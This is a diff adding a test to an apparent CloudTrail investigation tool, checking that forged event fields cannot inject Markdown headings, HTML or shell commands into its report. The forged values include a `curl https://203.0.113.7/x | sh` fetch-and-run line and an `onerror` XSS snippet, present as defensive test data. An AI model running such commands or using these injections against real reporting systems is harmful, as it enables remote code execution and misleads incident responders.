@@ -181,3 +181,50 @@ def test_progress_bar_on_a_terminal(setup: tuple[Path, Path], tmp_path: Path) ->
     report = _with_progress((data, second), [], InvestigateOptions(), {}, console)
     assert report.run.files == 2
     assert "investigating 2/2 files" in buffer.getvalue()
+
+
+def test_forged_values_cannot_add_markdown_to_the_report(tmp_path: Path) -> None:
+    # before: a newline in a forged user agent, ARN or user name ended its line and wrote
+    # headings, a fake "Containment checklist" with a `sh` block, and raw HTML into report.md
+    import subprocess
+
+    from markdown_it import MarkdownIt
+
+    name = "backdoor\n  ```\n\n# Injected step\n\n```sh\ncurl https://203.0.113.7/x | sh\n```"
+    forged = {
+        **USER,
+        "arn": "arn:aws:iam::123456789012:user/m\n\n# FAKE <img src=x onerror=alert(1)>",
+        "userName": "m\n## Fake section",
+    }
+    event = {
+        **record(1, "CreateUser", {"userName": name}),
+        "userIdentity": forged,
+        "userAgent": "aws-cli/2\n\n## Containment checklist\n\n[click](https://203.0.113.7/)",
+    }
+    rules = tmp_path / "rules.yml"
+    rules.write_text(RULE)
+    data = tmp_path / "trail.json"
+    data.write_bytes(orjson.dumps({"Records": [event]}))
+    out = tmp_path / "out"
+    result = invoke("--rules", rules, "-o", out, "--format", "markdown", data)
+    assert result.exit_code == 0, result.output
+    tokens = MarkdownIt("commonmark").enable("table").parse((out / "report.md").read_text())
+    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
+    injected = ("Injected step", "Fake section", "FAKE <img src=x onerror=alert(1)>")
+    assert not [h for h in headings if h.startswith(injected)]
+    assert headings.count("Containment checklist (playbook steps 6-7)") == 1
+    assert "Containment checklist" not in headings
+    html = [t.content for t in tokens if t.type in ("html_block", "html_inline")]
+    html += [c.content for t in tokens for c in t.children or [] if c.type == "html_inline"]
+    assert all(h.strip() in ("</a>", *(f'<a id="q{n}">' for n in range(1, 7))) for h in html), html
+    links = [c for t in tokens for c in t.children or [] if c.type in ("link_open", "image")]
+    assert all(str(c.attrGet("href") or "").startswith("#q") for c in links)
+    fences = [t for t in tokens if t.type == "fence"]
+    commands = [line for f in fences for line in f.content.splitlines()]
+    assert all(line.startswith("aws ") for line in commands), commands
+    (delete,) = [c for c in commands if c.startswith("aws iam delete-user ")]
+    # still the exact value, quoted for bash ($'...' for the newlines)
+    words = subprocess.run(
+        ["bash", "-c", "printf '%s\\0' " + delete], capture_output=True, check=True
+    ).stdout.split(b"\0")
+    assert words[-2].decode() == name
